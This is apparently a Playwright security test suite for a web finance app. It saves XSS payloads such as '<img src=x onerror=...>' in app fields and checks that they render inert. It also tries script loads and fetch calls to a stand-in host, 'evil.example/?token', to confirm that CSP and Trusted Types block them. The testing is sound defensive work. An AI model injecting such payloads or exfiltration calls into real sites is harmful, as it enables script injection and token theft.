import type { Page } from '@playwright/test'
import { type Account, callApi, newAccount, openAs } from '../support/api'
import { shownPage } from '../support/locators'
import { goTo } from '../support/navigation'
import { runningApp } from '../support/running-app'
import { expect, test } from '../support/test'
import { xssPayloads } from '../support/xss-payloads'

/** Saves the XSS payloads in every kind of row, in the profile and in a conversation; returns the conversation's id. */
async function saveXssPayloads(page: Page, account: Account) {
  const send = (method: string, path: string, data: object) => callApi(page, account, method, path, data)
  const short = xssPayloads.filter((text) => text.length <= 60)
  const at = (texts: readonly string[], n: number) => texts[n % texts.length]
  for (const [n, text] of xssPayloads.entries()) {
    const common = { asset_type: at(short, n), asset_description: text, account: text.slice(0, 120) }
    await send('POST', '/api/assets', { ...common, asset_value: 10, date_received: '2026-01-02' })
    if (n % 4 === 0)
      await send('POST', '/api/tentative-assets', {
        ...common,
        asset_amount: 10,
        expected_date: '2027-01-02',
      })
    if (n % 4 === 1)
      await send('POST', '/api/liabilities', {
        liability_type: at(short, n),
        description: text,
        liability_amount: 100,
        installments_total: 2,
        frequency: 'monthly',
        due_date: '2026-12-01',
        priority_score: 90,
        interest_rate: 5,
      })
  }
  const { session_id } = await send('POST', '/api/sessions', { title: '<img src=x onerror=top.hit=1>' })
  for (const message of xssPayloads) await send('POST', '/api/chat', { session_id, message })
  await send('PUT', '/api/profile', {
    name: '<img src=x onerror=top.hit=1>',
    selected_model: '<svg onload=top.hit=1>',
    monthly_income: 100,
    currency_preference: 'USD',
  })
  return session_id
}

/** The effects that a payload has had on the page, beyond being text. */
function effects(page: Page) {
  return page.evaluate(() => ({
    hit: Reflect.get(globalThis, 'hit'),
    handlers: document.querySelectorAll('[onerror],[onload],[onfocus],[ontoggle]').length,
    frames: document.querySelectorAll('iframe,object,embed,base,meta[http-equiv]').length,
    links: document.querySelectorAll('a[href^="javascript:" i]').length,
    foreign: [...document.querySelectorAll<HTMLScriptElement>('script[src]')].filter(({ src }) =>
      src.includes('evil'),
    ).length,
  }))
}

/** Waits until the page has rendered the rows that a scroll brought into view. */
function nextFrames(page: Page) {
  return page.evaluate(async () => {
    for (let frame = 0; frame < 3; frame += 1) await new Promise((next) => requestAnimationFrame(next))
  })
}

/** Scrolls through a virtualized table until each of the texts has been rendered. */
async function expectAllRendered(page: Page, table: string | RegExp, texts: readonly string[]) {
  const missing = new Set(texts)
  const rows = page.getByRole('table', { name: table })
  await rows.hover({ position: { x: 20, y: 60 } })
  for (let steps = 0; steps < 100 && missing.size > 0; steps += 1) {
    const cells = (await rows.locator('td, th').allTextContents()).join('\n')
    for (const text of missing) if (cells.includes(text)) missing.delete(text)
    await page.mouse.wheel(0, 300)
    await nextFrames(page)
  }
  expect([...missing]).toEqual([])
}

const NONE = { hit: undefined, handlers: 0, frames: 0, links: 0, foreign: 0 }

test(`${xssPayloads.length} XSS payloads are plain text on every screen`, async ({ page, user }) => {
  const account = await newAccount(page)
  const session = await saveXssPayloads(page, account)
  const requests: string[] = []
  page.on('request', (request) => request.url().includes('evil') && requests.push(request.url()))

  await openAs(page, account, '/')
  await page.evaluate((id) => localStorage.setItem('chat_session_id', id), session)
  await page.reload()
  await expect(page.getByRole('heading', { name: /^Welcome.*<img src=x/ })).toBeVisible()
  await page.getByRole('button', { name: 'Open assistant' }).click()
  await expect(page.getByText(xssPayloads[0] ?? '', { exact: true }).first()).toBeVisible()
  await page.getByRole('button', { name: 'User Profile' }).click()
  expect(await effects(page)).toEqual(NONE)

  await goTo(user, 'Assets')
  const all = [...new Set(xssPayloads)]
  await expectAllRendered(page, 'Current assets', all)
  expect(await effects(page)).toEqual(NONE)
  await page
    .getByRole('button', { name: /^Edit / })
    .first()
    .click()
  await expect(page.getByRole('dialog')).toBeVisible()
  expect(await effects(page)).toEqual(NONE)
  await page.keyboard.press('Escape')
  await page.getByRole('tab', { name: /Expected/ }).click()
  await expectAllRendered(
    page,
    'Expected assets',
    all.filter((_, n) => n % 4 === 0),
  )
  expect(await effects(page)).toEqual(NONE)

  await goTo(user, 'Liabilities')
  await expectAllRendered(
    page,
    /iabilities/,
    all.filter((_, n) => n % 4 === 1),
  )
  expect(await effects(page)).toEqual(NONE)
  await goTo(user, 'Plan')
  await expect(page.getByRole('heading', { name: /Payment Priority Recommendations/ })).toBeVisible()
  expect(await effects(page)).toEqual(NONE)
  await goTo(user, 'Profile')
  await expect(shownPage(page).getByText('<svg onload=top.hit=1>').first()).toBeVisible()
  expect(await effects(page)).toEqual(NONE)
  expect(requests).toEqual([])
})

test('the browser policies restrict a script that runs on the page', async ({ page, allowProblem }) => {
  allowProblem(/securitypolicyviolation|Content Security Policy|TrustedHTML|TrustedScript|TrustedTypePolicy/)
  allowProblem(/evil\.example/)
  const account = await newAccount(page)
  await openAs(page, account, '/')
  await expect(page.getByRole('heading', { name: /^Welcome/ })).toBeVisible()

  const results = await page.evaluate(async () => {
    const attempt = async (work: () => unknown) => {
      // In a separate task, because the browser exempts code that DevTools evaluates.
      await new Promise((resolve) => setTimeout(resolve))
      try {
        await work()
        return 'done'
      } catch (error) {
        return error instanceof Error ? error.name : 'refused'
      }
    }
    const loaded = (element: HTMLImageElement | HTMLScriptElement, src: string) =>
      new Promise((resolve, reject) => {
        element.onload = resolve
        element.onerror = reject
        element.src = src
        document.body.append(element)
      })
    const inline = document.createElement('script')
    return {
      foreignScript: await attempt(() =>
        loaded(document.createElement('script'), 'https://evil.example/x.js'),
      ),
      dataScript: await attempt(() => loaded(document.createElement('script'), 'data:text/javascript,1')),
      inlineScript: await attempt(() => {
        inline.textContent = 'top.hit=1'
      }),
      markup: await attempt(() =>
        document.body.insertAdjacentHTML('beforeend', '<img src=x onerror=top.hit=1>'),
      ),
      evaluated: await attempt(() => Reflect.get(globalThis, 'eval')('top.hit=1')),
      secondPolicy: await attempt(() =>
        Reflect.get(globalThis, 'trustedTypes').createPolicy('mine', { createHTML: String }),
      ),
      call: await attempt(() => fetch('https://evil.example/?token')),
      image: await attempt(() => loaded(new Image(), 'https://evil.example/?token')),
      hit: String(Reflect.get(globalThis, 'hit')),
    }
  })
  expect(results).toEqual({
    foreignScript: 'TypeError',
    dataScript: 'TypeError',
    inlineScript: 'TypeError',
    markup: 'TypeError',
    evaluated: 'EvalError',
    secondPolicy: 'TypeError',
    call: 'TypeError',
    image: 'refused',
    hit: 'undefined',
  })
})

test('the page, its files, the registry and the remotes have their security headers', async ({ page }) => {
  const { origin, remotes } = runningApp()
  const document = await page.request.get(origin)
  const script = /src="(\/main[^"]+)"/.exec(await document.text())?.[1]
  const registry = await page.request.get(`${origin}/registry.json`)
  const releases: { entry: string }[] = Object.values((await registry.json()).remotes)
  const ours = ['/', '/login', script, '/registry.json', '/missing.js', '/api/profile', '/api/docs'].map(
    (path) => origin + path,
  )
  const theirs = [
    ...releases.map(({ entry }) => entry),
    ...releases.map(({ entry }) => entry.replace('mf-manifest.json', 'remoteEntry.js')),
    ...Object.values(remotes).map((remote) => `${remote.origin}/missing`),
  ]
  for (const url of [...ours, ...theirs]) {
    const headers = (await page.request.get(url)).headers()
    expect([url, headers]).toEqual([
      url,
      expect.objectContaining({
        'x-content-type-options': 'nosniff',
        'referrer-policy': 'no-referrer',
        'content-security-policy': expect.stringContaining("frame-ancestors 'none'"),
      }),
    ])
  }
  expect(document.headers()['content-security-policy']).toContain("require-trusted-types-for 'script'")
})
